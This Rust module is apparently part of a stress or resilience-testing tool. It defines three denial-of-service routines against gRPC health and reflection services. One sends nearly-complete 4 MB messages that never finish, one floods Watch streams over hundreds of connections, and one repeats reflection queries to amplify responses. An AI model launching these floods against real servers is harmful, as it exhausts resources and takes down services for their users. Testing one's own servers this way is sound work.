//! Attacks on the standard services: health and reflection.

use super::client::Calls;
use super::{Tally, Target, framed, prefixed};
use std::sync::Arc;
use tonic_reflection::pb::v1::ServerReflectionRequest;
use tonic_reflection::pb::v1::server_reflection_request::MessageRequest;

const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
/// A message just below the limit of the generated servers of tonic.
const ENDLESS: u32 = 4 * 1024 * 1024 - 1;

/// All of a message except its last byte.
pub(super) fn endless(target: &Target, tally: &Arc<Tally>) {
    let body = [&[0], &ENDLESS.to_be_bytes()[..], &vec![0; usize::try_from(ENDLESS).unwrap() - 1]].concat();
    Calls { ends: false, connections: 4, streams: 50, ..Calls::new(REFLECTION, "", body) }.start(target, tally);
}

pub(super) fn watches(target: &Target, tally: &Arc<Tally>) {
    let path = "/grpc.health.v1.Health/Watch";
    Calls { connections: 100, streams: 255, refills: false, ..Calls::new(path, "", prefixed(&[])) }
        .start(target, tally);
}

/// Many questions for a file with all its dependencies, in one stream.
pub(super) fn amplify(target: &Target, tally: &Arc<Tally>) {
    let symbol = MessageRequest::FileContainingSymbol("roster.v1.OrganizationService".to_owned());
    let question = framed(&ServerReflectionRequest { host: String::new(), message_request: Some(symbol) });
    Calls { streams: 32, ..Calls::new(REFLECTION, "", question.repeat(32)) }.start(target, tally);
}
